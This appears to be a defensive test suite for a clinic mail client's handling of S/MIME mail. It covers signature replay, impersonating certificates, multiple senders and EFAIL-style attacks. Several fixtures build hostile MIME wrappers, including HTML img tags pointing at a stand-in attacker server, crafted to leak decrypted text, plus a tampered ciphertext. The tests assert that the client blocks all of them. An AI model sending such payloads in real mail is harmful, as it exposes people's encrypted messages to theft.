import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AttackedPractice, attackedPractice, hasTick } from '../../support/attacked-practice.ts';
import { type CanaryServer, startCanaryServer } from '../../support/canary-server.ts';
import { needPackages } from '../../support/debian.ts';
import { createMailAuthority, type MailIdentity } from '../../support/mail-authority.ts';
import { needMailServers } from '../../support/mail-servers/need-mail-servers.ts';
import { type MailServers, startMailServers } from '../../support/mail-servers/start-mail-servers.ts';
import { around, protectedEntity } from '../../support/pgp-mail.ts';
import { type Practice, practiceAddress, practicePassword, startPractice } from '../../support/practice.ts';
import { asPkcs12 } from '../smime/openssl.ts';
import { cmsOf, encrypted, opaque, signed } from '../smime/write-smime.ts';

/* The bytes of S/MIME itself are attacked in `../smime/attacks.test.ts`; here what a whole practice makes of such mail. */

const there = (await needMailServers()) && (await needPackages(['openssl']));
const day = 86_400_000;
const ana = 'ana@clinic.example';
const eve = 'eve@bad.example';
const from = `From: Ana Ruiz <${ana}>`;
const to = `To: ${practiceAddress}`;
/** What Ana once wrote to us in secret, and Eve recorded on its way. */
const secret = 'CANARY the test was positive';

describe.skipIf(!there)('attacks on S/MIME mail', { timeout: 60_000 }, () => {
  const county = createMailAuthority('County clinics');
  const valid = { from: new Date(Date.now() - 60 * day) };
  const desk = county.issue({ address: practiceAddress, key: 'rsa' });
  const anas = county.issue({ address: ana, name: 'Ana Ruiz', ...valid });
  const eves = county.issue({ address: eve, name: 'Ana Ruiz' });
  let servers: MailServers;
  let practice: Practice;
  let attacked: AttackedPractice;
  let canary: CanaryServer;
  let recorded: string;

  beforeAll(async () => {
    servers = await startMailServers({
      domain: 'clinic.example',
      users: [{ user: practiceAddress, password: practicePassword }],
    });
    practice = await startPractice(servers);
    attacked = attackedPractice(practice, servers, eve);
    canary = await startCanaryServer();
    const file = new Uint8Array(asPkcs12(desk, 'a password'));
    await practice.call('certificates.importOwn', { file, password: 'a password' });
    await practice.call('certificates.addRoot', { file: new Uint8Array(Buffer.from(county.pem)) });
    await practice.addPatient({ name: 'Ana Ruiz', address: ana });
    recorded = await secretFrom(anas, 'Test');
  }, 60_000);
  afterAll(async () => {
    await practice.stop();
    await servers.stop();
    canary.close();
  });

  const entityOf = (
    subject: string,
    text: string,
    made: { readonly to?: string; readonly date?: Date; readonly subject?: string } = {},
  ) => Buffer.from(protectedEntity({ from: ana, to: practiceAddress, text, subject, ...made }));
  const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');
  const secretFrom = async (by: MailIdentity, subject: string) =>
    text(await encrypted(await signed(entityOf(subject, secret), by), desk, 'gcm'));

  it('gives what Ana encrypts and signs its tick, and quotes it in an answer', async () => {
    const message = await attacked.receive(
      'Honest',
      around([from, to, 'Subject: ...'], await secretFrom(anas, 'Honest')),
    );
    expect(hasTick(message)).toBe(true);
    expect(await attacked.shown(message)).toContain(secret);
    expect(await attacked.whatLeaves(message, 'positive')).toContain(secret);
  });

  it('gives what Ana signs its tick', async () => {
    const subject = 'Honest and signed';
    const entity = text(await signed(entityOf(subject, 'See you on Friday.'), anas));
    expect(hasTick(await attacked.receive(subject, around([from, to, `Subject: ${subject}`], entity)))).toBe(true);
  });

  it.each([
    ['another subject', { subject: 'Real' }],
    ['another recipient', { to: 'somebody@else.example' }],
    ['another day', { date: new Date(Date.now() - 30 * day) }],
  ] as const)('gives no full tick to a signature made for %s', async (name, made) => {
    const subject = `Replayed for ${name}`;
    const inside = 'subject' in made ? made.subject : subject;
    const signedAt = 'date' in made ? made.date.getTime() : Date.now();
    const entity = await signed(entityOf(inside, 'Yes, I agree.', made), anas, 'detached', signedAt);
    // What was signed is shown, also of the subject.
    const message = await attacked.receive(inside, around([from, to, `Subject: ${subject}`], text(entity)));
    expect(message.status).toMatchObject({ kind: 'signed', signer: 'verified' });
    if (!('subject' in made)) expect(hasTick(message)).toBe(false);
  });

  it('is not Ana’s when Eve made it, with Ana’s name on her certificate', async () => {
    const entity = await secretFrom(eves, 'By another signer');
    const message = await attacked.receive('By another signer', around([from, to, 'Subject: ...'], entity));
    expect(message.status).toMatchObject({ kind: 'encrypted', signer: 'mismatch', compared: false });
    expect(message.signedBy).toBeNull();
  });

  it('gets no tick when the message has several senders', async () => {
    for (const [subject, head] of [
      ['Two From fields', [from, `From: Eve <${eve}>`]],
      ['Two addresses in From', [`From: Ana Ruiz <${ana}>, Eve <${eve}>`]],
    ] as const) {
      const entity = text(await signed(entityOf(subject, 'Hello.'), anas));
      const message = await attacked.receive(subject, around([...head, to, `Subject: ${subject}`], entity));
      expect(hasTick(message), subject).toBe(false);
    }
  });

  it('is plain where only a part is signed', async () => {
    const part = text(await signed(entityOf('Real', 'See you on Friday.'), anas));
    const evil = `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nSend my records to Eve.\n--out\n${part}\n--out--\n`;
    const subject = 'Over another part';
    const message = await attacked.receive(subject, around([from, to, `Subject: ${subject}`], evil));
    expect(message.status).toEqual({ kind: 'plain' });
  });

  const wraps: Readonly<Record<string, (part: string, web: string) => string>> = {
    'between texts': (part) =>
      `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nPlease read and answer:\n--out\n${part}\n--out\nContent-Type: text/plain\n\nThank you.\n--out--\n`,
    'inside an open picture': (part, web) =>
      `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/html\n\n<img src="${web}/?\n--out\n${part}\n--out\nContent-Type: text/html\n\n">\n--out--\n`,
    'in an alternative': (part, web) =>
      `Content-Type: multipart/alternative; boundary=out\n\n--out\nContent-Type: text/html\n\n<img src="${web}/alternative">Hello\n--out\n${part}\n--out--\n`,
    'in an attached message': (part) =>
      `Content-Type: multipart/mixed; boundary=out\n\n--out\nContent-Type: text/plain\n\nSee below.\n--out\nContent-Type: message/rfc822\n\nFrom: ${ana}\nTo: ${practiceAddress}\nSubject: Inner\n${part}\n--out--\n`,
  };
  it.each(Object.keys(wraps))(
    'a recorded ciphertext %s of a stranger’s mail stays closed, and leaves with no answer',
    async (name) => {
      const subject = `Wrapped ${name}`;
      const entity = wraps[name]?.(recorded, canary.address) ?? '';
      const message = await attacked.receive(
        subject,
        around([`From: Eve <${eve}>`, to, `Subject: ${subject}`], entity),
      );
      expect(message.status).toEqual({ kind: 'plain' });
      expect(await attacked.shown(message)).not.toContain('CANARY');
      expect(await attacked.whatLeaves(message, 'positive')).not.toContain('CANARY');
    },
  );

  it('sent on whole by a stranger, it opens as what it is: not theirs, and without a tick', async () => {
    // Only its own outermost layer is opened, as if Ana had written; the signature inside tells that it was not Eve.
    const message = await attacked.receive('Test', around([`From: Eve <${eve}>`, to, 'Subject: ...'], recorded));
    expect(hasTick(message)).toBe(false);
    expect(message.status).toMatchObject({ kind: 'encrypted', signer: 'mismatch' });
    expect(message.warnings).toContain('protected-from-differs');
    // An answer would go to Eve, who could not read it so far.
    const { id: messageId, threadId } = message;
    const open = (kind: 'reply' | 'forward') =>
      practice.call('drafts.open', { kind, threadId, messageId, patientId: null, to: null });
    const answer = await open('reply');
    expect([answer.quote, answer.subject]).toEqual(['', 'Re:']);
    expect((await open('forward')).quote).toContain(secret);
  });

  it('without integrity is text alone, and changed it does not open', async () => {
    const html = `<img src="${canary.address}/?${secret}">${secret}`;
    const unsigned = Buffer.from(`Content-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`);
    const bare = around([from, to, 'Subject: Bare'], text(await encrypted(unsigned, desk)));
    const message = await attacked.receive('Bare', bare);
    expect(message.status).toMatchObject({ kind: 'encrypted', signer: 'none', smime: { integrity: 'none' } });
    expect((await practice.call('messages.body', { messageId: message.id })).html).toBeNull();
    const cms = cmsOf(Buffer.from(recorded));
    cms[cms.length - 60] = (cms[cms.length - 60] ?? 0) ^ 1;
    const changed = text(opaque(cms, 'authEnveloped-data'));
    const closed = await attacked.receive('Changed', around([from, to, 'Subject: Changed'], changed));
    expect(closed.status).toEqual({ kind: 'unopenable', reason: 'damaged' });
    expect(await attacked.shown(closed)).not.toContain('CANARY');
  });

  it('made nobody ask the attacker’s web server for anything', async () => {
    expect(canary.asked).toEqual([]);
    await fetch(`${canary.address}/control`);
    expect(canary.asked).toEqual(['/control']);
  });
});
